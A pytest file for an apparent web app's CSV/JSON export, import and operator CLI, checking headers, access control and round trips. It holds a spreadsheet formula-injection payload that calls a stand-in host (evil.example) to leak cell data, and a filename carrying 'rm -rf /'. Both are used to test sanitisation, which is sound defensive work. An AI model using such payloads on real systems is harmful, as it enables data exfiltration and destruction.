"""Export (issue 5): CSV and JSON downloads of a workspace and of an assessment, the
operator's ``readiness-export``, and the round trip through ``import_document``."""

from __future__ import annotations

import csv
import io
import json
import re
import subprocess
import sys
from pathlib import Path

import pytest
from sqlalchemy import select

from conftest import Wizard, csrf_token, fresh_database
from readiness import export as fmt
from flows import answer, join, open_workspace
from webapp.export import exporter as webexport
from webapp.models import Assessment, Invitation, Workspace

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
TOWN = "Hódmezővásárhely"


def town_with_workspace_and_group(app, wizard: Wizard, content) -> tuple[str, str]:  # type: ignore[no-untyped-def]
    """A submitted assessment of TOWN with formula-like text answers, a workspace, one
    contributor and one revoked invitation. Returns (workspace URL, workspace public id)."""
    wizard.start(town=TOWN, country="Hungary", role="-chief planner")
    wizard.answer_all(overrides={"profile_notes": FORMULA, "gov_key_people": "@SUM(1+1)\nand +more"})
    assert wizard.submit().status_code == 302
    ws_url = open_workspace(wizard)
    # a stakeholder's own answers, with their role
    page = wizard.client.get(wizard.url("group")).get_data(as_text=True)
    html = wizard.client.post(wizard.url("group/invite"), data={"csrf_token": csrf_token(page), "label": "Chamber",
                                                                "role": "business"}).get_data(as_text=True)
    link = re.search(r'value="http://localhost(/i/[^"]+)"', html).group(1)
    contributor, contribution = join(app, link, "business")
    trust = next(q for q in content.dimension_by_id["trust"].questions if q.type.value in ("single", "scale") and q.show_if is None)
    low = min((o for o in trust.options if o.score is not None), key=lambda o: o.score)
    assert answer(contributor, contribution, "trust", {trust.id: low.value}).status_code == 302
    return ws_url, ws_url.rstrip("/").split("/ws/")[1]


def test_safe_cell_neutralises_every_formula_start():
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert fmt.safe_cell(start + "1+2") == "'" + start + "1+2"
    assert fmt.safe_cell("Mizil") == "Mizil" and fmt.safe_cell(None) == ""
    assert fmt.safe_cell(42.5) == 42.5 and fmt.safe_cell(True) == "yes"
    assert fmt.safe_filename(TOWN, "x.csv") == "cluster-readiness-hodmezovasarhely-x.csv"
    assert fmt.safe_filename('"; rm -rf /\r\n', "x.json") == "cluster-readiness-rm-rf-x.json"
    assert fmt.safe_filename("東京", "x.json") == "cluster-readiness-town-x.json"


def test_workspace_csv_opens_in_a_spreadsheet_safely(app, wizard, content):
    ws_url, ws_id = town_with_workspace_and_group(app, wizard, content)
    response = wizard.client.get(f"/ws/{ws_id}/export.csv")
    assert response.status_code == 200
    assert response.headers["Cache-Control"] == "no-store"
    assert response.headers["Content-Type"].startswith("text/csv")
    assert response.headers["Content-Disposition"] == 'attachment; filename="cluster-readiness-hodmezovasarhely-assessments.csv"'
    body = response.get_data()
    assert body.startswith(b"\xef\xbb\xbf")  # the BOM: Excel then reads UTF-8
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))
    assert rows[0] == fmt.CSV_COLUMNS
    records = [dict(zip(rows[0], r)) for r in rows[1:]]
    assert all(len(r) == len(fmt.CSV_COLUMNS) for r in rows)
    assert {r["town"] for r in records} == {TOWN} and {r["assessment"] for r in records} == {wizard.public_id}
    kinds = [r["record"] for r in records]
    assert kinds.count("overall") == 1 and kinds.count("dimension") == len(content.dimensions)
    document = wizard.client.get(f"/ws/{ws_id}/export.json").get_json()
    result = document["assessments"][0]["result"]
    assert kinds.count("finding") == len(result["findings"]) > 0
    assert kinds.count("answer") == len(document["assessments"][0]["answers"])
    overall = next(r for r in records if r["record"] == "overall")
    assert float(overall["score"]) == result["overall"]["score"] and overall["level"] == result["overall"]["level"]
    by_item = {r["item"]: r for r in records if r["record"] == "answer"}
    # formula-like text is kept, but as text: a leading apostrophe
    assert by_item["profile_notes"]["answer"] == "'" + FORMULA
    assert by_item["gov_key_people"]["value"] == "'@SUM(1+1)\nand +more"
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(fmt.FORMULA_START), cell
    # the single-assessment download has the same rows
    single = wizard.client.get(wizard.url("export.csv"))
    assert single.status_code == 200 and single.headers["Cache-Control"] == "no-store"
    assert single.headers["Content-Disposition"].startswith('attachment; filename="cluster-readiness-hodmezovasarhely-')
    assert single.get_data() == body
    # both pages link to their downloads
    assert f"/ws/{ws_id}/export.csv" in wizard.client.get(ws_url).get_data(as_text=True)
    assert wizard.url("export.json") in wizard.client.get(wizard.url("results")).get_data(as_text=True)


def test_workspace_json_round_trips_through_a_fresh_database(app, wizard, content, request, tmp_path):
    _, ws_id = town_with_workspace_and_group(app, wizard, content)
    response = wizard.client.get(f"/ws/{ws_id}/export.json")
    assert response.status_code == 200 and response.headers["Cache-Control"] == "no-store"
    assert response.headers["Content-Disposition"] == 'attachment; filename="cluster-readiness-hodmezovasarhely-workspace.json"'
    exported = json.loads(response.get_data())
    assert exported["format"] == fmt.FORMAT and [w["id"] for w in exported["workspaces"]] == [ws_id]
    (a,) = exported["assessments"]
    assert (a["town"], a["status"], a["language"], a["content_version"]) == (TOWN, "submitted", "en", content.version)
    assert a["submitted_at"] and a["answers"]["profile_notes"] == FORMULA
    assert a["result"]["findings"] and len(a["result"]["dimensions"]) == len(content.dimensions)
    (c,) = a["contributions"]
    assert c["role"] == "business" and c["answers"] and a["group"]["dimensions"]
    # never a capability token nor its hash
    sessions = app.extensions["readiness_db"].sessions
    with sessions() as s:
        hashes = [h for model in (Assessment, Workspace, Invitation) for h in s.scalars(select(model.token_hash))]
    text = response.get_data(as_text=True)
    assert hashes and not any(h in text for h in hashes)

    # into a fresh database: the same answers give the same scores and findings
    target_dir = tmp_path / "import"
    target_dir.mkdir()
    url = fresh_database("sqlite", request, target_dir)
    engine, fresh = webexport.open_database(url)
    try:
        counts = webexport.import_document(fresh, exported)
        assert counts == {"workspaces": 1, "assessments": 1, "answers": len(a["answers"]), "invitations": 1,
                          "contributions": 1}
        again = webexport.export_document(fresh, content)
        with pytest.raises(webexport.ImportProblem, match="already exists"):
            webexport.import_document(fresh, exported)  # nothing written twice
        assert len(webexport.export_document(fresh, content)["assessments"]) == 1
    finally:
        engine.dispose()
    assert {k: v for k, v in again.items() if k != "exported_at"} == {k: v for k, v in exported.items() if k != "exported_at"}


def test_import_refuses_what_is_not_an_export(app):
    sessions = app.extensions["readiness_db"].sessions
    for bad, message in (([], "not a cluster-readiness-export"), ({"format": "other"}, "not a"),
                         ({"format": fmt.FORMAT, "format_version": 99}, "format_version"),
                         ({"format": fmt.FORMAT, "format_version": 1, "workspaces": [], "assessments": [{"id": 5}]}, r"assessments\[0\]\.id"),
                         ({"format": fmt.FORMAT, "format_version": 1, "workspaces": [], "assessments": [
                             {"id": "a1", "town": "X", "country": "Y", "status": "draft", "content_version": "1",
                              "created_at": "2024-01-01T00:00:00+00:00", "updated_at": "yesterday"}]}, r"assessments\[0\]\.updated_at")):
        with pytest.raises(webexport.ImportProblem, match=message):
            webexport.import_document(sessions, bad)
    assert webexport.export_document(sessions, app.extensions["readiness_content"])["assessments"] == []


def test_exports_need_the_same_access_as_their_pages(app, wizard, content):
    _, ws_id = town_with_workspace_and_group(app, wizard, content)
    urls = [f"/ws/{ws_id}/export.json", f"/ws/{ws_id}/export.csv", wizard.url("export.json"), wizard.url("export.csv")]
    other = Wizard(app.test_client(), content)
    other.start(town="Mizil")  # another town's officer, with access of their own
    for url in urls:
        assert wizard.client.get(url).status_code == 200
        assert other.client.get(url).status_code == 404, url
        assert app.test_client().get(url).status_code == 404, url
        assert wizard.client.post(url).status_code == 405, url
    # a draft's own export works too (its answers so far)
    assert other.client.get(other.url("export.json")).get_json()["assessments"][0]["status"] == "draft"


def test_operator_export_writes_every_assessment(app, wizard, content, database_url, tmp_path, capsys, monkeypatch):
    _, ws_id = town_with_workspace_and_group(app, wizard, content)
    loose = Wizard(app.test_client(), content)
    loose.start(town="Enguera", country="Spain")  # a draft in no workspace
    out = tmp_path / "all.json"
    assert webexport.main(["--database", database_url, "-o", str(out)]) == 0
    summary = json.loads(capsys.readouterr().out)
    assert summary == {"file": str(out), "workspaces": 1, "assessments": 2}
    data = json.loads(out.read_text(encoding="utf-8"))
    assert {a["id"] for a in data["assessments"]} == {wizard.public_id, loose.public_id}
    assert data["workspaces"][0]["id"] == ws_id and data["workspaces"][0]["assessments"] == [wizard.public_id]
    # stdout by default, and the database from DATABASE_URL
    monkeypatch.setenv("DATABASE_URL", database_url)
    assert webexport.main([]) == 0
    printed = json.loads(capsys.readouterr().out)
    assert {k: v for k, v in printed.items() if k != "exported_at"} == {k: v for k, v in data.items() if k != "exported_at"}


@pytest.mark.parametrize("url, message", [
    ("not a url", "not a database URL"),
    ("nosuchdb://host/x", "unsupported database kind"),
    ("sqlite:////nonexistent/dir/readiness.sqlite3", "no SQLite database at /nonexistent/dir/readiness.sqlite3"),
])
def test_operator_export_bad_database_is_a_clear_exit_2(url, message, capsys):
    assert webexport.main(["--database", url]) == 2
    captured = capsys.readouterr()
    assert captured.out == "" and message in captured.err and "Traceback" not in captured.err
    assert captured.err.startswith("readiness-export: ") and captured.err.count("\n") == 1


@pytest.mark.slow
def test_operator_export_of_a_file_that_is_no_readiness_database(tmp_path):
    empty = tmp_path / "empty.sqlite3"
    empty.write_bytes(b"")
    junk = tmp_path / "junk.sqlite3"
    junk.write_bytes(b"not a database at all" * 100)
    for path in (empty, junk):
        done = subprocess.run([sys.executable, "-m", "webapp.export.exporter", "--database", f"sqlite:///{path}"],
                              capture_output=True, text=True, cwd=Path(__file__).resolve().parents[1], timeout=60)
        assert done.returncode == 2, done.stderr
        assert done.stdout == "" and "cannot read a Cluster Readiness database" in done.stderr
        assert "Traceback" not in done.stderr


def test_operator_import_restores_an_export(app, wizard, content, database_url, request, tmp_path, capsys):
    wizard.start(town=TOWN, country="Hungary")
    wizard.answer_all()
    assert wizard.submit().status_code == 302
    dump = tmp_path / "all.json"
    assert webexport.main(["--database", database_url, "-o", str(dump)]) == 0
    target_dir = tmp_path / "restore"
    target_dir.mkdir()
    url = fresh_database("sqlite", request, target_dir)
    capsys.readouterr()
    assert webexport.main(["--database", url, "--import", str(dump)]) == 0
    assert json.loads(capsys.readouterr().out)["imported"]["assessments"] == 1
    assert webexport.main(["--database", url]) == 0
    restored = json.loads(capsys.readouterr().out)
    assert restored["assessments"] == json.loads(dump.read_text(encoding="utf-8"))["assessments"]
    # the same file again: refused with one line, nothing written
    assert webexport.main(["--database", url, "--import", str(dump)]) == 2
    assert "already exists" in capsys.readouterr().err
    (tmp_path / "bad.json").write_text("{", encoding="utf-8")
    assert webexport.main(["--database", url, "--import", str(tmp_path / "bad.json")]) == 2
    assert "is not JSON" in capsys.readouterr().err
